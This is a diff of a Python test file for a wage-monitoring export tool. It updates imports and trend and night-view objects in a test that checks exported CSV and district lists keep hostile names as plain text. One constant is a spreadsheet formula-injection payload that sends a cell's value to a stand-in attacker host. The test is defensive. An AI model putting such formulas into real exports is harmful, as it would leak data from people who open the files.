@@ -14,7 +14,6 @@ import unicodedata
 import pytest
 from conftest import run_night_in_process
 from sqlalchemy import text
-from wageguard.demo.sources import running_sources
 from wageguard.exports.blacklist import export_blacklist
 from wageguard.exports.district_lists import HEADER, write_district_lists
 from wageguard.exports.engineer_reports import write_links, write_resolution
@@ -24,12 +23,14 @@ from wageguard.exports.flag_list import (
     OpenFlag,
     ResolvedFlag,
     Summary,
-    Trend,
+    TrendNight,
     write_flags_csv,
 )
 from wageguard.identity import normalise_investment_code
 from wageguard.rules.catalogue import load_rules
 from wageguard.rules.params import load_params
+from wageguard.warehouse.night import NightView
+from wageguard_dev.demo.sources import running_sources
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A2,"点此核实")'
 # What hostile names look like once they are stored: the sources' text is
@@ -228,10 +229,11 @@ def test_every_form_stays_text_in_the_district_lists_and_flags_csv(tmp_path):
     summary = Summary([Figures("district", "150202", None, "150200", "", listed=len(flags),
                                red=len(flags), overdue=len(flags), overdue_red=len(flags),
                                resolved=len(resolved))])
-    trend = {"150202": Trend([D], {(D, "red"): len(flags)})}
+    trend = {("district", "150202"): [TrendNight(D, len(flags), 0, 0)]}
+    view = NightView(D, "2026-11-22T01:00:00.000000+08:00", D, False)
 
     def lists(folder):
-        write_district_lists(folder, D, summary, flags, resolved, trend, rules, load_params())
+        write_district_lists(folder, view, summary, flags, resolved, trend, rules, load_params())
         return folder
 
     first, again = lists(tmp_path / "first"), lists(tmp_path / "again")
